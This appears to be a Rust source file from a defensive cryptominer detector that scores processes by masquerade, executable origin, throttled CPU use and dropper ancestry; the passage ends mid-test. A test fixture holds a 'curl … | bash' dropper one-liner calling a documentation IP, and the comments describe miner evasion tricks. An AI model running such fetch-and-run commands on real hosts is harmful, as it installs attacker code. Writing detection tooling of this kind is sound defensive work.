//! The detector: joins observations per process (pid + start time), adds
//! what the process's own attributes give away (names, command line,
//! executable origin, masquerade, sustained CPU), scores the evidence and
//! applies the allowlist. Sensors observe; only the detector decides.

use crate::host::process::cgroup_identity;
use crate::sensors::{Observation, Proc, ProcKey, Snapshot};
use rigwatch_signatures::{Evidence, EvidenceKind, Finding, FlowInfo, HostSubject, Origin, ProcessInfo, Signatures, SubjectKind, Weight};
use std::collections::HashMap;
use std::sync::Arc;

/// Detector settings (all have working defaults).
#[derive(Debug, Clone)]
pub struct DetectorConfig {
    /// Cores a process must use over the window to count as busy.
    pub cpu_cores_threshold: f64,
    /// Directories anyone can write to (executables there are odd).
    pub writable_dirs: Vec<String>,
    /// Dot-directories that ordinary toolchains install into (not odd).
    pub usual_dot_dirs: Vec<String>,
    /// The long CPU window in seconds: a process is also busy when its
    /// average over at least this long reaches `long_window_cores_threshold`
    /// (a miner throttled by cpulimit, nice, SCHED_IDLE or cgroup cpu.max).
    pub long_window_seconds: f64,
    /// Cores over the long window that count as busy.
    pub long_window_cores_threshold: f64,
    /// Stopped/running flips (SIGSTOP/SIGCONT cycling) seen before it is evidence.
    pub state_flips_threshold: u32,
    /// The host's root: Kubernetes pod names are read from its /var/log/pods.
    pub host_root: std::path::PathBuf,
}

impl Default for DetectorConfig {
    fn default() -> Self {
        DetectorConfig {
            cpu_cores_threshold: 0.5,
            writable_dirs: ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/var/lock/", "/run/lock/"]
                .map(String::from)
                .to_vec(),
            usual_dot_dirs: [
                ".cargo",
                ".rustup",
                ".local",
                ".pyenv",
                ".nvm",
                ".vscode-server",
                ".cursor-server",
                ".sdkman",
                ".rbenv",
                ".gradle",
                ".m2",
                ".npm",
                ".conda",
                ".deno",
                ".bun",
                ".venv",
                ".git",
                ".dotnet",
            ]
            .map(String::from)
            .to_vec(),
            long_window_seconds: 60.0,
            long_window_cores_threshold: 0.15,
            state_flips_threshold: 4,
            host_root: "/".into(),
        }
    }
}

/// The ids of the rules a collector teaches the fleet (`fleet.<indicator>`).
pub const FLEET_RULE_PREFIX: &str = "fleet.";

/// The detector.
pub struct Detector {
    sig: Arc<Signatures>,
    cfg: DetectorConfig,
    host: String,
    /// Evidence from a process's own attributes, by identity, with the comm it was computed for.
    own: HashMap<ProcKey, (String, Vec<Evidence>)>,
    /// Evidence seen once that stays true for the life of the process (a
    /// stratum session, a pool DNS query, a TLS SNI): sensors report it once.
    sticky: HashMap<ProcKey, Vec<Evidence>>,
    /// Earlier samples' CPU ticks, oldest first, for the long window.
    history: std::collections::VecDeque<(std::time::Instant, HashMap<ProcKey, u64>)>,
    /// Per process: whether it was stopped (T) last pass, and how often that flipped.
    flips: HashMap<ProcKey, (bool, u32)>,
    /// Kubernetes pod names by pod uid.
    pods: crate::kube::PodNames,
    /// Evidence about flows with no known process, by (client, server, tcp),
    /// with when it was last added to: a flow's evidence is seen once (the
    /// capture queue hands it over once) and stays for [`FLOW_MEMORY`].
    flows: std::collections::BTreeMap<(String, String, bool), (std::time::Instant, Vec<Evidence>)>,
}

/// How long a flow's evidence stays after it was last seen.
pub const FLOW_MEMORY: std::time::Duration = std::time::Duration::from_secs(600);
/// Most flows remembered (the oldest go first).
const MAX_FLOWS: usize = 4096;

/// Evidence kinds that are events (seen once) rather than states.
const STICKY: &[&str] = &["stratum", "tls_sni", "dns"];

impl Detector {
    /// A detector for `host` with a signature set.
    pub fn new(sig: Arc<Signatures>, cfg: DetectorConfig, host: &str) -> Self {
        let pods = crate::kube::PodNames::new(&cfg.host_root);
        Detector {
            sig,
            cfg,
            host: host.to_string(),
            own: HashMap::new(),
            sticky: HashMap::new(),
            history: Default::default(),
            flips: HashMap::new(),
            pods,
            flows: Default::default(),
        }
    }

    /// Takes a new signature set (hot reload).
    pub fn set_signatures(&mut self, sig: Arc<Signatures>) {
        self.sig = sig;
        self.own.clear();
    }

    /// Assesses every process in `cur` (CPU measured against `prev`) with the
    /// sensors' observations. Returns the findings, most severe first.
    pub fn assess(&mut self, prev: Option<&Snapshot>, cur: &Snapshot, observations: &[Observation], now: u64) -> Vec<Finding> {
        let mut extra: HashMap<ProcKey, Vec<Evidence>> = HashMap::new();
        let mut hashes: HashMap<ProcKey, [u8; 32]> = HashMap::new();
        let mut hidden: HashMap<ProcKey, Proc> = HashMap::new();
        let mut host: std::collections::BTreeMap<&HostSubject, Vec<Evidence>> = Default::default();
        for o in observations {
            match o {
                Observation::Evidence(k, e) if STICKY.contains(&e.kind()) => {
                    let v = self.sticky.entry(*k).or_default();
                    if !v.contains(e) {
                        v.push(e.clone());
                    }
                }
                Observation::Evidence(k, e) => extra.entry(*k).or_default().push(e.clone()),
                Observation::BinarySha256(k, h) => {
                    hashes.insert(*k, *h);
                }
                Observation::Flow(f) => {
                    let (at, v) = self
                        .flows
                        .entry((f.client.to_string(), f.server.to_string(), f.tcp))
                        .or_insert_with(|| (cur.at, Vec::new()));
                    *at = cur.at;
                    if !v.contains(&f.evidence) && v.len() < 64 {
                        v.push(f.evidence.clone());
                    }
                }
                Observation::Hidden(p) if !cur.procs.contains_key(&p.key) => {
                    // seen more than one way (each exec, its connect): the
                    // latest that read its argv is what the process became
                    let slot = hidden.entry(p.key).or_insert_with(|| p.clone());
                    if p.fixed.argv_read || !slot.fixed.argv_read {
                        *slot = p.clone();
                    }
                }
                Observation::Hidden(_) => {}
                Observation::Host(subject, e) => host.entry(subject).or_default().push(e.clone()),
            }
        }
        if let Some(pr) = prev {
            self.remember(pr);
        }
        let long_base = self.long_base(cur);
        self.count_flips(cur);
        if !cur.partial {
            self.own.retain(|k, _| cur.procs.contains_key(k));
            self.sticky.retain(|k, _| cur.procs.contains_key(k) || hidden.contains_key(k));
        }
        for (k, v) in &self.sticky {
            extra.entry(*k).or_default().extend(v.iter().cloned());
        }
        // the trojan's footprint on this host (firewall flushed, security
        // agents stopped…): said beside each process that is already odd
        let footprints: Vec<Evidence> = host
            .iter()
            .filter(|(s, _)| s.kind == SubjectKind::Footprint)
            .flat_map(|(_, v)| v.iter().filter(|e| e.kind() == "footprint").cloned())
            .take(8)
            .collect();
        let window = prev.map(|p| cur.at.saturating_duration_since(p.at).as_secs_f64()).unwrap_or(0.0);
        let mut findings = Vec::new();
        let me = std::process::id();
        // ancestors: the listed processes, and those only exec events saw
        // (a dropper's shell gone before the pass)
        let by_pid: HashMap<u32, &Proc> = hidden.values().chain(cur.procs.values()).map(|p| (p.key.pid, p)).collect();
        for (key, p) in cur.procs.iter().chain(hidden.iter()) {
            // kernel threads are never miners; rigwatch itself carries protocol strings
            if p.kernel_thread || key.pid == me {
                continue;
            }
            let mut ev = self.own_evidence(p);
            ev.extend(self.inherited_base64(p, &by_pid));
            let oneliner = ancestor_oneliner(p, &by_pid);
            if let Some((ppid, ol)) = &oneliner {
                if let Some(rule) = self.sig.binary_hash(&rigwatch_signatures::oneliner::sha256(ol)) {
                    ev.push(Evidence::from_rule(
                        EvidenceKind::CommandLine {
                            matched: format!("started by the one-liner of ancestor pid {ppid}: {}", clip_chars(ol, 160)),
                            base64: false,
                            pool_url: false,
                        },
                        &rule.id,
                        rule.severity,
                    ));
                }
            }
            let measured = prev.and_then(|pr| cur.cores_since(pr, key));
            if let Some(cores) = measured {
                if cores >= self.cfg.cpu_cores_threshold {
                    ev.push(Evidence::heuristic(
                        EvidenceKind::Cpu {
                            cores: round2(cores),
                            window_seconds: round2(window),
                        },
                        Weight::Info,
                    ));
                }
            }
            if !ev.iter().any(|e| matches!(e.detail, EvidenceKind::Cpu { .. })) {
                if let Some((cores, secs)) = long_base.and_then(|b| self.long_cores(b, cur, p)) {
                    if cores >= self.cfg.long_window_cores_threshold {
                        ev.push(Evidence::heuristic(
                            EvidenceKind::Cpu {
                                cores: round2(cores),
                                window_seconds: round2(secs),
                            },
                            Weight::Info,
                        ));
                    }
                }
            }
            ev.extend(self.throttle_evidence(p, ev.iter().any(|e| matches!(e.detail, EvidenceKind::Cpu { .. }))));
            if let Some(x) = extra.remove(key) {
                ev.extend(x);
                ev = dedup(ev);
            }
            if !footprints.is_empty() && ev.iter().any(|e| e.weight >= Weight::Suspicious && e.kind() != "footprint") {
                ev.extend(footprints.iter().map(|e| Evidence {
                    weight: Weight::Suspicious,
                    ..e.clone()
                }));
                ev = dedup(ev);
            }
            if ev.is_empty() {
                continue;
            }
            let mut info = process_info(p);
            info.parent_oneliner = oneliner.map(|(_, ol)| ol);
            info.sha256 = hashes.get(key).map(|h| h.iter().map(|b| format!("{b:02x}")).collect());
            if let Some(pod) = info.pod_uid.as_deref().and_then(|u| self.pods.lookup(u)) {
                info.namespace = Some(pod.namespace);
                info.pod = Some(pod.name);
            }
            if self.sig.allowed(hashes.get(key), &info.exe, &info.user, &info.cgroup).is_some() {
                continue;
            }
            if let Some(mut f) = Finding::assess(&self.host, info, ev, now) {
                // the process's CPU whether or not it is evidence (an idle miner uses ~0)
                f.cpu_cores = f.cpu_cores.or(measured.map(round2));
                findings.push(f);
            }
        }
        self.flows.retain(|_, (at, _)| cur.at.saturating_duration_since(*at) < FLOW_MEMORY);
        if self.flows.len() > MAX_FLOWS {
            let mut by_age: Vec<_> = self.flows.iter().map(|(k, (at, _))| (*at, k.clone())).collect();
            by_age.sort();
            for (_, k) in by_age.into_iter().take(self.flows.len() - MAX_FLOWS) {
                self.flows.remove(&k);
            }
        }
        for ((client, server, tcp), (_, ev)) in &self.flows {
            let flow = FlowInfo {
                client: client.clone(),
                server: server.clone(),
                transport: if *tcp { "tcp" } else { "udp" }.into(),
            };
            findings.extend(Finding::for_flow(&self.host, flow, ev.clone(), now));
        }
        for (subject, ev) in host {
            // the allowlist speaks for host subjects too: a file or library by
            // path (a known preload library), a cgroup by its path
            let (path, cgroup) = match subject.kind {
                SubjectKind::Cgroup => ("", subject.name.as_str()),
                _ => (subject.name.as_str(), ""),
            };
            if self.sig.allowed(None, path, "\0host", cgroup).is_some() {
                continue;
            }
            findings.extend(Finding::for_host(&self.host, subject.clone(), dedup(ev), now));
        }
        // no finding leaves the agent larger than this, whatever the miner put in its files and names
        for f in &mut findings {
            self.name_teachers(&mut f.evidence);
            f.bound(rigwatch_signatures::model::MAX_FINDING_BYTES);
        }
        findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.process.pid.cmp(&b.process.pid)));
        self.remember(cur);
        findings
    }

    /// Evidence from a fleet rule says which finding on which host taught
    /// it (the rule's description, as the collector wrote it).
    fn name_teachers(&self, ev: &mut [Evidence]) {
        for e in ev.iter_mut() {
            if let Some(r) = e.rule.as_deref().filter(|r| r.starts_with(FLEET_RULE_PREFIX)) {
                e.taught_by = self.sig.rule(r).map(|r| r.description.clone());
            }
        }
    }

    /// Findings from observations made elsewhere (flows read from a capture
    /// file): the same scoring, with no processes.
    pub fn assess_offline(&mut self, observations: &[Observation], now: u64) -> Vec<Finding> {
        let empty = Snapshot {
            at: std::time::Instant::now(),
            procs: Default::default(),
            ticks_per_second: 100,
            partial: true,
        };
        self.assess(None, &empty, observations, now)
    }

    /// Keeps a sample's CPU ticks for the long window (once per sample).
    fn remember(&mut self, s: &Snapshot) {
        if self.history.back().is_some_and(|(at, _)| *at >= s.at) {
            return;
        }
        self.history
            .push_back((s.at, s.procs.iter().map(|(k, p)| (*k, p.cpu_ticks)).collect()));
        // keep the newest sample at least a long window old, and everything after it
        let long = std::time::Duration::from_secs_f64(self.cfg.long_window_seconds.max(0.0));
        while self.history.len() > 2
            && self
                .history
                .get(1)
                .is_some_and(|(at, _)| s.at.saturating_duration_since(*at) >= long)
        {
            self.history.pop_front();
        }
        while self.history.len() > 4096 {
            self.history.pop_front();
        }
    }

    /// The newest remembered sample at least a long window before `cur`.
    fn long_base(&self, cur: &Snapshot) -> Option<usize> {
        let long = std::time::Duration::from_secs_f64(self.cfg.long_window_seconds.max(0.0));
        self.history
            .iter()
            .rposition(|(at, _)| cur.at.saturating_duration_since(*at) >= long && *at < cur.at)
    }

    /// Cores over the long window: (cores, seconds).
    fn long_cores(&self, base: usize, cur: &Snapshot, p: &Proc) -> Option<(f64, f64)> {
        let (at, ticks) = self.history.get(base)?;
        let then = *ticks.get(&p.key)?;
        let secs = cur.at.checked_duration_since(*at)?.as_secs_f64();
        (secs > 0.0).then(|| {
            (
                p.cpu_ticks.saturating_sub(then) as f64 / cur.ticks_per_second.max(1) as f64 / secs,
                secs,
            )
        })
    }

    /// Counts stopped/running flips per process (SIGSTOP/SIGCONT cycling).
    fn count_flips(&mut self, cur: &Snapshot) {
        if !cur.partial {
            self.flips.retain(|k, _| cur.procs.contains_key(k));
        }
        for (k, p) in &cur.procs {
            let stopped = p.state == 'T';
            let e = self.flips.entry(*k).or_insert((stopped, 0));
            if e.0 != stopped {
                e.0 = stopped;
                e.1 += 1;
            }
        }
    }

    /// Throttling seen in the process: stop/continue cycling (suspicious
    /// with CPU use), and low priority as context for its CPU evidence.
    fn throttle_evidence(&self, p: &Proc, busy: bool) -> Vec<Evidence> {
        let mut ev = Vec::new();
        if let Some((_, n)) = self.flips.get(&p.key).filter(|(_, n)| *n >= self.cfg.state_flips_threshold.max(1)) {
            ev.push(Evidence::heuristic(
                EvidenceKind::Throttled {
                    how: format!("stopped and continued {n} times between passes (SIGSTOP/SIGCONT cycling, as cpulimit does)"),
                },
                Weight::Suspicious,
            ));
        }
        if busy {
            let mut how = Vec::new();
            if p.nice >= 10 {
                how.push(format!("nice {}", p.nice));
            }
            match p.policy {
                3 => how.push("SCHED_BATCH".to_string()),
                5 => how.push("SCHED_IDLE".to_string()),
                _ => {}
            }
            if !how.is_empty() {
                ev.push(Evidence::heuristic(
                    EvidenceKind::Throttled {
                        how: format!("busy at low priority ({})", how.join(", ")),
                    },
                    Weight::Info,
                ));
            }
        }
        ev
    }

    /// A shell whose base64 command line decodes to miner flags (`sh -c "echo …
    /// | base64 -d | bash"`) speaks for what it starts: its children and
    /// grandchildren (the decoding shell, then the miner) carry that evidence,
    /// capped at `likely`, naming the ancestor.
    fn inherited_base64(&mut self, p: &Proc, by_pid: &HashMap<u32, &Proc>) -> Vec<Evidence> {
        let mut out = Vec::new();
        let mut ppid = p.ppid;
        for _ in 0..3 {
            let Some(parent) = by_pid.get(&ppid).copied().filter(|_| ppid > 1) else {
                break;
            };
            let from = format!("base64 command line of ancestor {} pid {ppid}", parent.comm);
            for e in self.own_evidence(parent) {
                let detail = match e.detail {
                    EvidenceKind::CommandLine {
                        matched,
                        base64: true,
                        pool_url,
                    } => EvidenceKind::CommandLine {
                        matched: format!("{matched} (in the {from})"),
                        base64: true,
                        pool_url,
                    },
                    EvidenceKind::Wallet { coin, address, source } if source.ends_with("(base64)") => EvidenceKind::Wallet {
                        coin,
                        address,
                        source: from.clone(),
                    },
                    EvidenceKind::PoolDomain { domain, source } if source.ends_with("(base64)") => EvidenceKind::PoolDomain {
                        domain,
                        source: from.clone(),
                    },
                    _ => continue,
                };
                out.push(Evidence {
                    detail,
                    rule: e.rule,
                    taught_by: e.taught_by,
                    weight: e.weight.min(Weight::Likely),
                });
            }
            ppid = parent.ppid;
        }
        out
    }

    fn own_evidence(&mut self, p: &Proc) -> Vec<Evidence> {
        if let Some((comm, ev)) = self.own.get(&p.key) {
            if *comm == p.comm {
                return ev.clone();
            }
        }
        let ev = own_evidence(&self.sig, &self.cfg, p);
        self.own.insert(p.key, (p.comm.clone(), ev.clone()));
        ev
    }
}

/// Drops repeated evidence (the same flow seen by two sensors, a line seen twice).
pub fn dedup(ev: Vec<Evidence>) -> Vec<Evidence> {
    let mut out: Vec<Evidence> = Vec::with_capacity(ev.len());
    for e in ev {
        if !out.contains(&e) {
            out.push(e);
        }
    }
    out
}

/// The dropper one-liner of the nearest shell ancestor (3 levels up at
/// most), with that ancestor's pid ([`rigwatch_signatures::oneliner`]).
fn ancestor_oneliner(p: &Proc, by_pid: &HashMap<u32, &Proc>) -> Option<(u32, String)> {
    let mut ppid = p.ppid;
    for _ in 0..3 {
        let parent = by_pid.get(&ppid).copied().filter(|_| ppid > 1)?;
        if let Some(s) = rigwatch_signatures::oneliner::of_argv(&parent.fixed.argv) {
            return Some((ppid, s));
        }
        ppid = parent.ppid;
    }
    None
}

fn clip_chars(s: &str, n: usize) -> String {
    match s.char_indices().nth(n) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_string(),
    }
}

fn round2(x: f64) -> f64 {
    (x * 100.0).round() / 100.0
}

/// The finding's view of a process.
pub fn process_info(p: &Proc) -> ProcessInfo {
    let f = &p.fixed;
    let (container_id, pod_uid, systemd_unit) = cgroup_identity(&f.cgroup);
    ProcessInfo {
        pid: p.key.pid,
        ppid: p.ppid,
        start_time: p.key.start_time,
        comm: p.comm.clone(),
        exe: f.exe.clone().unwrap_or_default(),
        cmdline: rigwatch_signatures::redact::redact_cmdline(&p.cmdline()),
        user: f.user.clone(),
        uid: f.uid,
        cwd: f.cwd.clone().unwrap_or_default(),
        cgroup: f.cgroup.clone(),
        container_id,
        pod_uid,
        namespace: None,
        pod: None,
        systemd_unit,
        sha256: None,
        parent_oneliner: None,
    }
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

/// Evidence from the process's own attributes: names, command line, origin, masquerade.
pub fn own_evidence(sig: &Signatures, cfg: &DetectorConfig, p: &Proc) -> Vec<Evidence> {
    let f = &p.fixed;
    let exe = f.exe.as_deref().unwrap_or("");
    let exe_clean = exe.trim_end_matches(" (deleted)");
    let argv0 = f.argv.first().map(String::as_str).unwrap_or("");
    let mut ev = sig.match_names(&[("comm", &p.comm), ("exe", basename(exe_clean)), ("argv0", basename(argv0))]);
    ev.extend(sig.scan_cmdline(&p.cmdline()));
    if let Some(o) = origin(cfg, exe) {
        ev.push(Evidence::heuristic(
            EvidenceKind::ExecutableOrigin {
                origin: o,
                path: exe.to_string(),
            },
            Weight::Suspicious,
        ));
    }
    if let Some(reason) = masquerade(p) {
        ev.push(Evidence::heuristic(
            EvidenceKind::Masquerade {
                reason,
                comm: p.comm.clone(),
                exe: exe.to_string(),
                argv0: argv0.to_string(),
            },
            Weight::Suspicious,
        ));
    }
    ev
}

/// How an executable path's origin is odd, if it is.
pub fn origin(cfg: &DetectorConfig, exe: &str) -> Option<Origin> {
    if exe.is_empty() {
        return None;
    }
    if exe.starts_with("/memfd:") {
        return Some(Origin::Memfd);
    }
    if exe.ends_with(" (deleted)") {
        return Some(Origin::Deleted);
    }
    if cfg.writable_dirs.iter().any(|d| exe.starts_with(d.as_str())) {
        return Some(Origin::WritableDir);
    }
    let dir = exe.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    if let Ok(m) = std::fs::metadata(if dir.is_empty() { "/" } else { dir }) {
        use std::os::unix::fs::PermissionsExt;
        // world-writable without the sticky bit's protection is odd wherever it is
        if m.permissions().mode() & 0o002 != 0 {
            return Some(Origin::WritableDir);
        }
    }
    let dotted = dir
        .split('/')
        .any(|c| c.starts_with('.') && c != "." && c != ".." && !cfg.usual_dot_dirs.iter().any(|u| u == c));
    dotted.then_some(Origin::DotDir)
}

const KERNEL_THREAD_PREFIXES: &[&str] = &[
    "kworker",
    "ksoftirqd",
    "kswapd",
    "kthreadd",
    "migration/",
    "rcu_",
    "watchdog",
    "kcompactd",
    "khugepaged",
    "kdevtmpfs",
    "jbd2/",
    "irq/",
    "kblockd",
    "kauditd",
    "khungtaskd",
    "oom_reaper",
    "writeback",
    "kintegrityd",
    "cpuhp/",
    "idle_inject",
    "ext4-rsv",
    "xfs",
    "scsi_",
    "netns",
    "mm_percpu_wq",
    "kthrotld",
];

/// Why a process looks like it pretends to be something else, if it does.
pub fn masquerade(p: &Proc) -> Option<String> {
    if p.kernel_thread {
        return None;
    }
    let f = &p.fixed;
    let comm = p.comm.as_str();
    let argv0 = f.argv.first().map(String::as_str).unwrap_or("");
    let kthread_like = |n: &str| {
        let n = n.trim_start_matches('[');
        KERNEL_THREAD_PREFIXES.iter().any(|k| n.starts_with(k))
    };
    if kthread_like(comm) || (argv0.starts_with('[') && argv0.ends_with(']')) {
        return Some(format!(
            "user-space process named like a kernel thread ({:?}, ppid {}, has {})",
            if argv0.starts_with('[') { argv0 } else { comm },
            p.ppid,
            if f.exe.is_some() { "an executable" } else { "a command line" }
        ));
    }
    let exe = f.exe.as_deref()?.trim_end_matches(" (deleted)");
    if exe.starts_with("/memfd:") {
        return None;
    }
    let prefix15 = |s: &str| -> String { s.chars().take(15).collect() };
    let exe_base = prefix15(basename(exe));
    let argv_base = prefix15(basename(argv0));
    if !comm.is_empty() && comm != exe_base && comm != argv_base && !argv0.is_empty() {
        return Some(format!(
            "comm {comm:?} is neither the executable {exe_base:?} nor argv[0] {argv_base:?}"
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn origins() {
        let c = DetectorConfig::default();
        assert_eq!(origin(&c, "/memfd:x (deleted)"), Some(Origin::Memfd));
        assert_eq!(origin(&c, "/usr/bin/x (deleted)"), Some(Origin::Deleted));
        assert_eq!(origin(&c, "/dev/shm/x"), Some(Origin::WritableDir));
        assert_eq!(origin(&c, "/home/u/.configrc/a/kswapd0"), Some(Origin::DotDir));
        assert_eq!(origin(&c, "/root/.cargo/bin/cargo"), None);
        assert_eq!(origin(&c, "/usr/bin/bash"), None);
    }

    fn snap(at: std::time::Instant, ticks: u64, state: char) -> Snapshot {
        let fixed = std::sync::Arc::new(crate::host::process::ProcStatic {
            comm: "kworker/0:9".into(),
            argv: vec!["/opt/x/kworker/0:9".into()],
            argv_read: true,
            exe: Some("/opt/x/worker".into()),
            ..Default::default()
        });
        let key = ProcKey { pid: 4242, start_time: 7 };
        let p = Proc {
            key,
            ppid: 1,
            comm: "kworker/0:9".into(),
            state,
            threads: 1,
            nice: 19,
            policy: 5,
            cpu_ticks: ticks,
            child_ticks: 0,
            kernel_thread: false,
            fixed,
        };
        Snapshot {
            at,
            procs: [(key, p)].into_iter().collect(),
            ticks_per_second: 100,
            partial: false,
        }
    }

    fn kinds(f: &[Finding]) -> Vec<&'static str> {
        f.iter().flat_map(|f| f.evidence.iter().map(|e| e.kind())).collect()
    }

    #[test]
    fn throttled_cpu_counts_over_the_long_window() {
        let sig = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
        let cfg = DetectorConfig {
            long_window_seconds: 60.0,
            ..Default::default()
        };
        let mut d = Detector::new(sig, cfg, "h");
        let t0 = std::time::Instant::now();
        // 0.2 cores: below the 0.5 short threshold, above the 0.15 long one
        let mut prev = snap(t0, 0, 'R');
        let mut last = Vec::new();
        for i in 1..=7u64 {
            let cur = snap(t0 + std::time::Duration::from_secs(10 * i), 200 * i, 'R');
            last = d.assess(Some(&prev), &cur, &[], 0);
            if i < 6 {
                assert!(!kinds(&last).contains(&"cpu"), "pass {i}: no long window yet");
            }
            prev = cur;
        }
        let f = &last[0];
        assert_eq!(
            f.severity,
            rigwatch_signatures::Severity::Suspicious,
            "masquerade + long-window CPU"
        );
        let cpu = f
            .evidence
            .iter()
            .find_map(|e| match e.detail {
                EvidenceKind::Cpu { cores, window_seconds } => Some((cores, window_seconds)),
                _ => None,
            })
            .unwrap();
        assert!((cpu.0 - 0.2).abs() < 0.01 && cpu.1 >= 60.0, "{cpu:?}");
        assert!(f
            .evidence
            .iter()
            .any(|e| matches!(&e.detail, EvidenceKind::Throttled { how } if how.contains("nice 19") && how.contains("SCHED_IDLE"))));
    }

    #[test]
    fn a_dropper_one_liner_the_fleet_knows_marks_what_it_started() {
        use rigwatch_signatures::Severity;
        let t0 = std::time::Instant::now();
        let prev = snap(t0, 0, 'R');
        let mut cur = snap(t0 + std::time::Duration::from_secs(10), 900, 'R');
        // the miner (renamed kworker, busy) under `sh -c 'curl … | bash'` (pid 77)
        cur.procs.values_mut().for_each(|p| p.ppid = 77);
        let mut shell = cur.procs.values().next().unwrap().clone();
        shell.key = ProcKey { pid: 77, start_time: 5 };
        shell.ppid = 1;
        shell.comm = "sh".into();
        shell.cpu_ticks = 0;
        shell.nice = 0;
        shell.policy = 0;
        let line = "curl -fsSL http://u:pw@203.0.113.9/i.sh | bash";
        shell.fixed = std::sync::Arc::new(crate::host::process::ProcStatic {
            comm: "sh".into(),
            argv: vec!["/bin/sh".into(), "-c".into(), line.into()],
            argv_read: true,
            exe: Some("/usr/bin/dash".into()),
            ..Default::default()
        });
        cur.procs.insert(shell.key, shell);
        let redacted = "curl -fsSL http://203.0.113.9/i.sh | bash";
        let sha = rigwatch_signatures::oneliner::sha256_hex(redacted);
        let fleet = format!(
            "[meta]\nsource = \"fleet\"\n[[rule]]\nid = \"fleet.ol1\"\nkind = \"binary_hash\"\nseverity = \"likely\"\n\
             description = \"fleet: taught by node-a/f1\"\nsha256 = [\"{sha}\"]\n[rule.examples]\nhit = [\"{sha}\"]\n"
        );
        let plain = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
        let mut d = Detector::new(plain, DetectorConfig::default(), "h");
        let before = d.assess(Some(&prev), &cur, &[], 0);
        let f = before.iter().find(|f| f.pid == Some(4242)).unwrap();
        assert_eq!(f.severity, Severity::Suspicious, "{f:?}");
        assert_eq!(
            f.process.parent_oneliner.as_deref(),
            Some(redacted),
            "sent for the collector, redacted"
        );
        let loaded = rigwatch_signatures::load::load_with(&[], true, &[("fleet-indicators.toml".into(), fleet)]);
        assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
        let mut d = Detector::new(std::sync::Arc::new(loaded.signatures), DetectorConfig::default(), "h");
        let after = d.assess(Some(&prev), &cur, &[], 0);
        let f = after.iter().find(|f| f.pid == Some(4242)).unwrap();
        let e = f
            .evidence
            .iter()
            .find(|e| e.rule.as_deref() == Some("fleet.ol1"))
            .unwrap_or_else(|| panic!("{f:?}"));
        assert_eq!(e.weight, Weight::Likely);
        assert!(e.summary().contains("one-liner of ancestor pid 77"), "{}", e.summary());
        assert_eq!(f.severity, Severity::Likely, "{f:?}");
    }

    #[test]
    fn a_hosts_footprint_raises_an_odd_busy_process_and_no_other() {
        use rigwatch_signatures::{HostSubject, Severity};
        let sig = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
        let t0 = std::time::Instant::now();
        let prev = snap(t0, 0, 'R');
        let cur = snap(t0 + std::time::Duration::from_secs(10), 900, 'R');
        let flushed = Observation::Host(
            HostSubject {
                kind: SubjectKind::Footprint,
                name: "firewall netns:4026531840".into(),
            },
            Evidence::heuristic(
                EvidenceKind::Footprint {
                    what: "firewall rules".into(),
                    before: "12 rules".into(),
                    after: "none".into(),
                },
                Weight::Suspicious,
            ),
        );
        // busy and masquerading (suspicious alone) → likely beside the footprint
        let mut d = Detector::new(sig.clone(), DetectorConfig::default(), "h");
        let alone = d.assess(Some(&prev), &cur, &[], 0);
        let f = alone.iter().find(|f| f.pid == Some(4242)).unwrap();
        assert_eq!(f.severity, Severity::Suspicious, "{f:?}");
        let mut d = Detector::new(sig.clone(), DetectorConfig::default(), "h");
        let beside = d.assess(Some(&prev), &cur, std::slice::from_ref(&flushed), 0);
        let f = beside.iter().find(|f| f.pid == Some(4242)).unwrap();
        assert_eq!(f.severity, Severity::Likely, "{f:?}");
        assert!(f.evidence.iter().any(|e| e.kind() == "footprint" && e.weight == Weight::Suspicious));
        let host = beside.iter().find(|f| f.subject.is_some()).unwrap();
        assert_eq!(host.severity, Severity::Suspicious, "alone, a footprint is at most suspicious");
        // an ordinary busy process gets nothing from it
        let mut ordinary = snap(t0 + std::time::Duration::from_secs(10), 900, 'R');
        for p in ordinary.procs.values_mut() {
            p.comm = "cc1".into();
            p.fixed = std::sync::Arc::new(crate::host::process::ProcStatic {
                comm: "cc1".into(),
                argv: vec!["/usr/libexec/gcc/cc1".into()],
                argv_read: true,
                exe: Some("/usr/libexec/gcc/cc1".into()),
                ..Default::default()
            });
        }
        let mut d = Detector::new(sig, DetectorConfig::default(), "h");
        let out = d.assess(Some(&prev), &ordinary, &[flushed], 0);
        assert!(out.iter().all(|f| f.pid.is_none()), "{out:?}");
    }

    #[test]
    fn flow_evidence_seen_once_stays_with_its_flow() {
        let sig = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
        let mut d = Detector::new(sig, DetectorConfig::default(), "h");
        let t0 = std::time::Instant::now();
        let dns = |answers: Vec<String>| {
            Observation::Flow(crate::net::shared::FlowFinding {
                client: "127.0.0.1:5000".parse().unwrap(),
                server: "127.0.0.53:53".parse().unwrap(),
                tcp: false,
                evidence: Evidence::from_rule(
                    EvidenceKind::Dns {
                        name: "pool.supportxmr.com".into(),
                        answers,
                    },
                    "pool.domains",
                    Weight::Likely,
                ),
                inode: None,
                attributable: false,
                tries: 0,
            })
        };
        // the answer in one pass, the query in the next: one flow finding with both
        d.assess(None, &snap(t0, 0, 'S'), &[dns(vec!["10.0.0.1".into()])], 0);
        let f = d.assess(None, &snap(t0 + std::time::Duration::from_secs(5), 0, 'S'), &[dns(vec![])], 0);
        let flows: Vec<&Finding> = f.iter().filter(|f| f.flow.is_some()).collect();
        assert_eq!(flows.len(), 1, "{f:?}");
        assert_eq!(flows[0].evidence.len(), 2, "{:?}", flows[0].evidence);
        assert_eq!(flows[0].severity, rigwatch_signatures::Severity::Suspicious);
        // and it is forgotten FLOW_MEMORY after it was last seen
        let later = snap(t0 + FLOW_MEMORY + std::time::Duration::from_secs(6), 0, 'S');
        assert!(d.assess(None, &later, &[], 0).iter().all(|f| f.flow.is_none()));
    }

    #[test]
    fn stop_continue_cycling_is_noticed() {
        let sig = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
        let mut d = Detector::new(sig, DetectorConfig::default(), "h");
        let t0 = std::time::Instant::now();
        let mut prev = snap(t0, 0, 'R');
